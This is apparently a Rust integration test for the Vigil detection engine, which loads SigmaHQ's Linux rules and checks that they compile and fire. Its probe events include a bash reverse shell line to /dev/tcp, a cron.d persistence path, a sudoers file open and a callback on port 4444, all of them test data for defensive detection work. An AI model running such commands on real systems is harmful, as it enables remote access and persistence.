//! SigmaHQ's Linux rules, loaded file by file from the shared checkout (never copied into
//! the project): every rule parses; every rule of a category Vigil supports compiles; the
//! rest (auditd and syslog services) load as unsupported with a reason. The counts are
//! printed per category and reason, and asserted.

use std::fs;
use std::path::{Path, PathBuf};

use std::collections::BTreeMap;

use vigil_detect::{sample_event, sample_exec_event, Category, RuleSet};
use vigil_proto::EventAction;

fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let mut entries: Vec<PathBuf> = fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("cannot list {}: {e}", dir.display()))
        .map(|e| {
            e.unwrap_or_else(|e| panic!("cannot list {}: {e}", dir.display()))
                .path()
        })
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            yaml_files(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(path);
        }
    }
}

#[test]
fn sigmahq_linux_rules_load() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/sigma/rules/linux");
    if !dir.is_dir() {
        eprintln!(
            "SKIP sigmahq_linux_rules_load: no SigmaHQ checkout at {} (this test proves nothing here)",
            dir.display()
        );
        return;
    }
    let mut files = Vec::new();
    yaml_files(&dir, &mut files);
    let hunting = dir.join("../../rules-threat-hunting/linux");
    if hunting.is_dir() {
        yaml_files(&hunting, &mut files);
    }
    assert!(!files.is_empty(), "no rule files under {}", dir.display());

    let probe = sample_exec_event(&[
        ("Image", "/usr/bin/bash"),
        ("CommandLine", "bash -c 'echo hello'"),
        ("ParentImage", "/usr/sbin/sshd"),
    ])
    .expect("probe event fields are known");

    // Per category: rules that compiled; plus every skipped rule with its reason.
    let mut compiled_by_category: BTreeMap<String, usize> = BTreeMap::new();
    let mut skipped: BTreeMap<String, usize> = BTreeMap::new();
    let mut unsupported_features = Vec::new();
    let mut broken = Vec::new();
    for file in &files {
        let text = fs::read_to_string(file)
            .unwrap_or_else(|e| panic!("cannot read {}: {e}", file.display()));
        let category = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("category:"))
            .map(|c| c.trim().to_owned());
        let supported = category
            .as_deref()
            .is_some_and(|c| Category::named(c).is_some());
        match RuleSet::load(&[file]) {
            Ok(set) => {
                for rule in set.rules() {
                    *compiled_by_category
                        .entry(rule.category().name.to_owned())
                        .or_default() += 1;
                }
                for skip in set.unsupported() {
                    assert!(
                        !skip.why.is_empty(),
                        "{}: skipped without a reason",
                        file.display()
                    );
                    *skipped.entry(skip.why.clone()).or_default() += 1;
                }
                if supported && set.is_empty() {
                    broken.push(format!(
                        "{}: rule of a supported category was skipped",
                        file.display()
                    ));
                }
                // Compiled rules must be matchable without trouble on an ordinary event.
                let _ = set.matches(&probe);
            }
            Err(e) if e.is_unsupported_feature() && e.location().is_some() => {
                unsupported_features.push(e.to_string());
            }
            Err(e) => broken.push(e.to_string()),
        }
    }
    let compiled: usize = compiled_by_category.values().sum();
    let skipped_total: usize = skipped.values().sum();
    eprintln!(
        "SigmaHQ linux: {} files, {compiled} rules compile, {skipped_total} skipped as unsupported, \
         {} use unsupported features",
        files.len(),
        unsupported_features.len()
    );
    for (category, n) in &compiled_by_category {
        eprintln!("  compiled {category}: {n}");
    }
    for (why, n) in &skipped {
        eprintln!("  skipped {n}: {why}");
    }
    for line in &unsupported_features {
        eprintln!("  unsupported feature: {line}");
    }
    assert!(
        broken.is_empty(),
        "rules that failed for other reasons:\n{}",
        broken.join("\n")
    );
    // Every file is accounted for: compiled, skipped with a reason, or a positioned
    // unsupported-feature error (none today).
    assert!(
        unsupported_features.is_empty(),
        "every rule of a supported category compiles"
    );
    assert_eq!(
        compiled + skipped_total,
        files.len(),
        "one rule per SigmaHQ file"
    );
    assert_eq!(
        compiled_by_category.get("process_creation").copied(),
        Some(124),
        "all SigmaHQ process_creation rules compile"
    );
    assert!(
        compiled_by_category.get("file_event").copied().unwrap_or(0) >= 10,
        "SigmaHQ file_event rules compile: {compiled_by_category:?}"
    );
    assert!(
        compiled_by_category
            .get("network_connection")
            .copied()
            .unwrap_or(0)
            >= 5,
        "SigmaHQ network_connection rules compile: {compiled_by_category:?}"
    );

    // The whole folder loads in one go too (ids are unique, nothing aborts the load), and
    // real rules fire on what they describe.
    {
        let mut dirs = vec![dir.clone()];
        if hunting.is_dir() {
            dirs.push(hunting.clone());
        }
        let set = RuleSet::load(&dirs).unwrap_or_else(|e| panic!("loading the folder: {e}"));
        assert_eq!(
            set.len(),
            compiled,
            "folder load compiles what file-by-file load did"
        );
        let fired = |fields: &[(&str, &str)]| -> Vec<String> {
            let event = sample_exec_event(fields).expect("fields are known");
            set.matches(&event)
                .iter()
                .map(|r| r.info().id.clone())
                .collect()
        };
        // The indexed matcher agrees with evaluating every rule on SigmaHQ's rules too.
        let probes = [
            sample_exec_event(&[
                ("Image", "/usr/bin/bash"),
                ("CommandLine", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),
            ]),
            sample_exec_event(&[("Image", "/usr/bin/base64"), ("CommandLine", "base64 -d x")]),
            sample_exec_event(&[
                ("Image", "/usr/bin/chmod"),
                ("CommandLine", "chmod +x /tmp/x"),
            ]),
            sample_exec_event(&[("Image", "/usr/bin/crontab"), ("CommandLine", "crontab -l")]),
            sample_event(EventAction::Open, &[("TargetFilename", "/etc/sudoers.d/x")]),
            sample_event(
                EventAction::Connect,
                &[("Image", "/bin/bash"), ("DestinationIp", "8.8.8.8")],
            ),
        ];
        for probe in probes {
            let event = probe.expect("fields are known");
            let indexed: Vec<&str> = set
                .matches(&event)
                .iter()
                .map(|r| r.info().id.as_str())
                .collect();
            let linear: Vec<&str> = set
                .rules()
                .filter(|r| r.matches(&event))
                .map(|r| r.info().id.as_str())
                .collect();
            assert_eq!(indexed, linear, "index and full evaluation disagree");
        }
        let interactive = fired(&[("Image", "/usr/bin/bash"), ("CommandLine", "bash -i >& x")]);
        assert!(
            interactive.contains(&"6104e693-a7d6-4891-86cb-49a258523559".to_owned()),
            "SigmaHQ 'Bash Interactive Shell' should fire: {interactive:?}"
        );
        let decode = fired(&[("Image", "/usr/bin/base64"), ("CommandLine", "base64 -D x")]);
        let cron = set
            .matches(
                &sample_event(
                    EventAction::Open,
                    &[
                        ("Image", "/usr/bin/vi"),
                        ("TargetFilename", "/etc/cron.d/evil"),
                    ],
                )
                .expect("fields are known"),
            )
            .len();
        assert!(
            cron >= 1,
            "SigmaHQ file_event cron rule should fire on /etc/cron.d/evil"
        );
        let callback = set
            .matches(
                &sample_event(
                    EventAction::Connect,
                    &[
                        ("DestinationIp", "203.0.113.9"),
                        ("DestinationPort", "4444"),
                    ],
                )
                .expect("fields are known"),
            )
            .len();
        let local = set
            .matches(
                &sample_event(
                    EventAction::Connect,
                    &[("DestinationIp", "10.1.2.3"), ("DestinationPort", "4444")],
                )
                .expect("fields are known"),
            )
            .len();
        assert!(
            callback >= 1 && local == 0,
            "SigmaHQ malware-callback-port rule uses |cidr to leave out private ranges: {callback} {local}"
        );
        assert!(
            decode.contains(&"e2072cab-8c9a-459b-b63c-40ae79e27031".to_owned()),
            "SigmaHQ 'Decode Base64 Encoded Text' (case-insensitive `-d`) should fire: {decode:?}"
        );
    }
}
